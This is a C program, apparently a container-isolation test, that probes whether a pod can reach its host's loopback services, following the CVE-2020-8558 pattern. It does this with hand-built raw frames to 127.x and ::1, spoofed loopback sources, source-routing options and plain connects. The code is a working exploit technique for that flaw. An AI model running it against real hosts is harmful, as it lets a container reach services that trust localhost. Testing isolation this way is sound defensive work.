/* loopnet TCPPORT UDPPORT WILDPORT: reach the host's loopback services from a pod (issue #23, item 3,
 * the CVE-2020-8558 pattern). Hand-made Ethernet frames (AF_PACKET: CAP_NET_RAW) to the gateway's
 * MAC addressed to 127.x / ::1 / ::ffff:127.0.0.1, spoofed loopback sources, IPv4 source routing,
 * and plain connect()s. The host's servers record what reached them: they are the judge. A line a
 * try: "NAME ESCAPED" (an answer came from the host's loopback), else the errno name or BLIND (a
 * datagram whose answer, if any, goes where this program cannot see it). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static int sock, ifindex;
static unsigned char mymac[6], gwmac[6];
static struct in_addr myip, gwip;
static struct in6_addr myll, gwll;
static unsigned short tcpport, udpport, wildport;

static uint32_t sum16(const void *data, size_t len, uint32_t sum)
{
	const unsigned char *p = data;
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)(p[len - 1] << 8);
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void put16(unsigned char *p, unsigned v) { p[0] = (unsigned char)(v >> 8); p[1] = (unsigned char)v; }
static void put32(unsigned char *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v & 0xffff); }

/* an L4 segment (TCP flags/seq/ack, or UDP when flags < 0) into buf; returns its length */
static size_t l4(unsigned char *buf, int flags, unsigned sport, unsigned dport, uint32_t seq, uint32_t ack,
		 const char *data)
{
	size_t dl = strlen(data), hl = flags < 0 ? 8 : 20;
	memset(buf, 0, hl);
	put16(buf, sport);
	put16(buf + 2, dport);
	if (flags < 0) {
		put16(buf + 4, (unsigned)(8 + dl));
	} else {
		put32(buf + 4, seq);
		put32(buf + 8, ack);
		buf[12] = 5 << 4;
		buf[13] = (unsigned char)flags;
		put16(buf + 14, 65535);
	}
	memcpy(buf + hl, data, dl);
	return hl + dl;
}

static void send_frame(unsigned char *frame, size_t len)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
	memcpy(to.sll_addr, gwmac, 6);
	memcpy(frame, gwmac, 6);
	memcpy(frame + 6, mymac, 6);
	sendto(sock, frame, len, 0, (struct sockaddr *)&to, sizeof(to));
}

/* IPv4: src, dst, protocol, optional IP options (len a multiple of 4), L4 built by l4() */
static void send4(struct in_addr src, struct in_addr dst, int flags, unsigned sport, unsigned dport, uint32_t seq,
		  uint32_t ack, const char *data, const unsigned char *opt, size_t optlen)
{
	unsigned char frame[1514] = {0}, *ip = frame + 14, *seg;
	size_t ihl = 20 + optlen, len;
	put16(frame + 12, ETHERTYPE_IP);
	seg = ip + ihl;
	len = l4(seg, flags, sport, dport, seq, ack, data);
	ip[0] = (unsigned char)(0x40 | ihl / 4);
	put16(ip + 2, (unsigned)(ihl + len));
	ip[8] = 64;
	ip[9] = flags < 0 ? IPPROTO_UDP : IPPROTO_TCP;
	memcpy(ip + 12, &src, 4);
	memcpy(ip + 16, &dst, 4);
	memcpy(ip + 20, opt, optlen);
	put16(ip + 10, 0);
	uint16_t c = fold(sum16(ip, ihl, 0));
	memcpy(ip + 10, &c, 2);
	/* the pseudo header names the final destination: with source routing, the option's last hop */
	uint32_t ps = sum16(ip + 12, 4, 0);
	ps = sum16(optlen ? opt + optlen - 4 : ip + 16, 4, ps);
	ps += ip[9] + (uint32_t)len;
	c = fold(sum16(seg, len, ps));
	memcpy(seg + (flags < 0 ? 6 : 16), &c, 2);
	send_frame(frame, 14 + ihl + len);
}

static void send6(const struct in6_addr *src, const struct in6_addr *dst, int flags, unsigned sport,
		  unsigned dport, uint32_t seq, uint32_t ack, const char *data, const struct in6_addr *via)
{
	unsigned char frame[1514] = {0}, *ip = frame + 14, *seg;
	size_t ext = via ? 24 : 0, len;
	put16(frame + 12, ETHERTYPE_IPV6);
	seg = ip + 40 + ext;
	len = l4(seg, flags, sport, dport, seq, ack, data);
	ip[0] = 0x60;
	put16(ip + 4, (unsigned)(ext + len));
	ip[6] = via ? 43 : flags < 0 ? IPPROTO_UDP : IPPROTO_TCP;
	ip[7] = 64;
	memcpy(ip + 8, src, 16);
	memcpy(ip + 24, via ? via : dst, 16);
	if (via) { /* a type 0 routing header: first hop `via`, then `dst` */
		unsigned char *rh = ip + 40;
		rh[0] = flags < 0 ? IPPROTO_UDP : IPPROTO_TCP;
		rh[1] = 2;
		rh[2] = 0;
		rh[3] = 1;
		memcpy(rh + 8, dst, 16);
	}
	uint32_t ps = sum16(src, 16, 0);
	ps = sum16(dst, 16, ps);
	ps += (uint32_t)len + (flags < 0 ? IPPROTO_UDP : IPPROTO_TCP);
	uint16_t c = fold(sum16(seg, len, ps));
	memcpy(seg + (flags < 0 ? 6 : 16), &c, 2);
	send_frame(frame, 14 + 40 + ext + len);
}

/* wait up to 1.5 s for an IPv4 frame from `from` to this pod: TCP with SYN|ACK (tcp) or UDP */
static int answer4(struct in_addr from, int tcp, unsigned sport, uint32_t *seq)
{
	unsigned char frame[2048];
	struct timespec end, now;
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += 2;
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec > end.tv_nsec))
			return 0;
		ssize_t n = recv(sock, frame, sizeof(frame), 0);
		if (n < 14 + 20 + 8 || frame[12] != 0x08 || frame[13] != 0x00)
			continue;
		unsigned char *ip = frame + 14, *seg = ip + (ip[0] & 15) * 4;
		if (memcmp(ip + 12, &from, 4) || memcmp(ip + 16, &myip, 4))
			continue;
		if ((seg[2] << 8 | seg[3]) != (int)sport)
			continue;
		if (tcp && ip[9] == IPPROTO_TCP && (seg[13] & 0x12) == 0x12) {
			*seq = (uint32_t)seg[4] << 24 | (uint32_t)seg[5] << 16 | (uint32_t)seg[6] << 8 | seg[7];
			return 1;
		}
		if (!tcp && ip[9] == IPPROTO_UDP)
			return 1;
	}
}

static unsigned next_port(void)
{
	static unsigned port = 40000;
	return ++port;
}

static void raw4_tcp(const char *name, const char *dst)
{
	struct in_addr to;
	uint32_t seq = 1000, theirs;
	unsigned sport = next_port();
	inet_pton(AF_INET, dst, &to);
	send4(myip, to, 0x02, sport, tcpport, seq, 0, "", NULL, 0);
	if (!answer4(to, 1, sport, &theirs)) {
		printf("%s ETIMEDOUT\n", name);
		return;
	}
	/* the pod's own RST to 127.x stays on its loopback: the host's half-open connection waits for us */
	char data[128];
	snprintf(data, sizeof(data), "%s\n", name);
	send4(myip, to, 0x18, sport, tcpport, seq + 1, theirs + 1, data, NULL, 0);
	printf("%s ESCAPED\n", name);
}

static void raw4_udp(const char *name, const char *src, const char *dst, unsigned dport,
		     const unsigned char *opt, size_t optlen)
{
	struct in_addr from = myip, to;
	uint32_t unused;
	unsigned sport = next_port();
	char data[128];
	if (src)
		inet_pton(AF_INET, src, &from);
	if (dst)
		inet_pton(AF_INET, dst, &to);
	else
		to = gwip;
	snprintf(data, sizeof(data), "%s\n", name);
	send4(from, to, -1, sport, dport, 0, 0, data, opt, optlen);
	if (src) {
		printf("%s BLIND\n", name);
		return;
	}
	struct in_addr answer = to;
	if (optlen)
		memcpy(&answer, opt + optlen - 4, 4);
	printf("%s %s\n", name, answer4(answer, 0, sport, &unused) ? "ESCAPED" : "ETIMEDOUT");
}

static void raw6(const char *name, int tcp, const char *dst, unsigned dport, const struct in6_addr *via)
{
	struct in6_addr to;
	char data[128];
	if (dst)
		inet_pton(AF_INET6, dst, &to);
	else
		to = gwll;
	snprintf(data, sizeof(data), "%s\n", name);
	send6(&myll, &to, tcp ? 0x02 : -1, next_port(), dport, 1000, 0, tcp ? "" : data, via);
	usleep(100000);
	printf("%s BLIND\n", name);
}

static void try_connect(const char *name, int family, const char *dst, unsigned port)
{
	struct sockaddr_storage to = {0};
	socklen_t len;
	if (family == AF_INET) {
		struct sockaddr_in *a = (struct sockaddr_in *)&to;
		a->sin_family = AF_INET;
		a->sin_port = htons((uint16_t)port);
		if (dst)
			inet_pton(AF_INET, dst, &a->sin_addr);
		else
			a->sin_addr = gwip;
		len = sizeof(*a);
	} else {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)&to;
		a->sin6_family = AF_INET6;
		a->sin6_port = htons((uint16_t)port);
		inet_pton(AF_INET6, dst, &a->sin6_addr);
		len = sizeof(*a);
	}
	int s = socket(family, SOCK_STREAM, 0);
	struct timeval tv = {.tv_sec = 2};
	setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (connect(s, (struct sockaddr *)&to, len) == 0) {
		char data[128];
		snprintf(data, sizeof(data), "%s\n", name);
		if (write(s, data, strlen(data)) < 0)
			perror("write");
		printf("%s ESCAPED\n", name);
	} else {
		printf("%s %s\n", name, strerrorname_np(errno));
	}
	close(s);
}

static int gateway(void)
{
	char line[256];
	unsigned dst, gw, flags;
	FILE *f = fopen("/proc/net/route", "r");
	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*s %x %x %x", &dst, &gw, &flags) == 3 && dst == 0 && gw) {
			gwip.s_addr = gw;
			fclose(f);
			return 1;
		}
	return 0;
}

static int gateway_mac(void)
{
	char line[256], ip[64], mac[64], want[64];
	int probe = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = gwip};
	inet_ntop(AF_INET, &gwip, want, sizeof(want));
	for (int i = 0; i < 40; i++) {
		sendto(probe, "", 0, 0, (struct sockaddr *)&to, sizeof(to)); /* makes the kernel ARP */
		usleep(50000);
		FILE *f = fopen("/proc/net/arp", "r");
		while (f && fgets(line, sizeof(line), f)) {
			unsigned m[6];
			if (sscanf(line, "%63s %*s %*s %63s", ip, mac) == 2 && !strcmp(ip, want) &&
			    sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6 &&
			    strcmp(mac, "00:00:00:00:00:00")) {
				for (int k = 0; k < 6; k++)
					gwmac[k] = (unsigned char)m[k];
				fclose(f);
				return 1;
			}
		}
		if (f)
			fclose(f);
	}
	return 0;
}

static void link_local(struct in6_addr *a, const unsigned char *mac)
{ /* the EUI-64 address the kernel gives a link by default */
	memset(a, 0, sizeof(*a));
	a->s6_addr[0] = 0xfe;
	a->s6_addr[1] = 0x80;
	unsigned char eui[8] = {mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]};
	memcpy(a->s6_addr + 8, eui, 8);
}

int main(int argc, char **argv)
{
	struct ifreq ifr = {0};
	if (argc != 4) {
		fprintf(stderr, "usage: loopnet TCPPORT UDPPORT WILDPORT\n");
		return 2;
	}
	tcpport = (unsigned short)atoi(argv[1]);
	udpport = (unsigned short)atoi(argv[2]);
	wildport = (unsigned short)atoi(argv[3]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (sock < 0) {
		printf("setup %s\n", strerrorname_np(errno));
		return 1;
	}
	strcpy(ifr.ifr_name, "eth0");
	int ctl = socket(AF_INET, SOCK_DGRAM, 0);
	if (ioctl(ctl, SIOCGIFINDEX, &ifr) || (ifindex = ifr.ifr_ifindex, ioctl(ctl, SIOCGIFHWADDR, &ifr))) {
		printf("setup %s\n", strerrorname_np(errno));
		return 1;
	}
	memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
	if (ioctl(ctl, SIOCGIFADDR, &ifr)) {
		printf("setup %s\n", strerrorname_np(errno));
		return 1;
	}
	myip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
	if (!gateway() || !gateway_mac()) {
		printf("setup no-gateway\n");
		return 1;
	}
	struct sockaddr_ll here = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = ifindex};
	struct timeval tv = {.tv_usec = 200000};
	bind(sock, (struct sockaddr *)&here, sizeof(here));
	setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	link_local(&myll, mymac);
	link_local(&gwll, gwmac);
	char gw[64];
	inet_ntop(AF_INET, &gwip, gw, sizeof(gw));
	printf("setup ok %s\n", gw);

	/* the control: a frame to the gateway's own address reaches the host and is answered */
	raw4_udp("control-raw4-udp-gateway", NULL, NULL, wildport, NULL, 0);

	const char *loops[] = {"127.0.0.1", "127.0.0.2", "127.1.2.3"};
	for (int i = 0; i < 3; i++) {
		char name[64];
		snprintf(name, sizeof(name), "raw4-tcp-%s", loops[i]);
		raw4_tcp(name, loops[i]);
		snprintf(name, sizeof(name), "raw4-udp-%s", loops[i]);
		raw4_udp(name, NULL, loops[i], udpport, NULL, 0);
		snprintf(name, sizeof(name), "raw4-udp-from-127.0.0.1-to-%s", loops[i]);
		raw4_udp(name, "127.0.0.1", loops[i], udpport, NULL, 0);
	}
	/* a loopback source to the host's own address: a service that trusts 127.x as "local" */
	raw4_udp("raw4-udp-from-127.0.0.1-to-gateway", "127.0.0.1", NULL, wildport, NULL, 0);
	raw4_udp("raw4-udp-from-127.0.0.2-to-gateway", "127.0.0.2", NULL, wildport, NULL, 0);
	/* source routing: to the gateway, whose next hop is 127.0.0.1 (loose and strict) */
	for (int strict = 0; strict < 2; strict++) {
		unsigned char opt[8] = {strict ? 137 : 131, 7, 4, 127, 0, 0, 1, 1 /* NOP pad */};
		memmove(opt + 1, opt, 7); /* NOP first, so the route's address ends the options */
		opt[0] = 1;
		raw4_udp(strict ? "raw4-udp-ssrr-127.0.0.1" : "raw4-udp-lsrr-127.0.0.1", NULL, NULL, udpport, opt, 8);
	}
	/* the IPv6 control: a frame to the gateway's link-local address reaches the host (the host judges) */
	raw6("control-raw6-udp-gateway", 0, NULL, wildport, NULL);
	raw6("raw6-udp-::1", 0, "::1", udpport, NULL);
	raw6("raw6-tcp-::1", 1, "::1", tcpport, NULL);
	raw6("raw6-udp-::ffff:127.0.0.1", 0, "::ffff:127.0.0.1", udpport, NULL);
	raw6("raw6-udp-::ffff:127.0.0.1-wildcard", 0, "::ffff:127.0.0.1", wildport, NULL);
	raw6("raw6-udp-rh0-::1", 0, "::1", udpport, &gwll);
	try_connect("connect4-127.0.0.1", AF_INET, "127.0.0.1", tcpport);
	try_connect("connect4-127.0.0.2", AF_INET, "127.0.0.2", tcpport);
	try_connect("connect6-::1", AF_INET6, "::1", tcpport);
	try_connect("connect6-::ffff:127.0.0.1", AF_INET6, "::ffff:127.0.0.1", tcpport);
	try_connect("connect4-gateway", AF_INET, NULL, tcpport);
	printf("done\n");
	return 0;
}
